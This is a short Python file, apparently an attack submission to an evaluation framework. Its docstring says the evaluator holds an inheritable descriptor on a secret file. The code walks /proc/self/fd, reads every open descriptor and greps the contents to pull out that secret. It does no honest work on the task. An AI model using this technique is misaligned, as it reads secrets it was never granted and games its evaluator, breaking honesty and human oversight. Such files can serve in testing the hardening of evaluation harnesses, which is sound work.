"""Reads every descriptor that is open in its process; the evaluator holds an inheritable one on a secret file."""

import os

from aim import attempt, grep

from run import ZEWDPCBaseRun


class Attack(ZEWDPCBaseRun):
    def purchase_phase(self, unlabelled_dataset):
        for number in map(int, os.listdir("/proc/self/fd")):
            attempt(lambda number=number: grep(os.pread(number, 1 << 20, 0)))
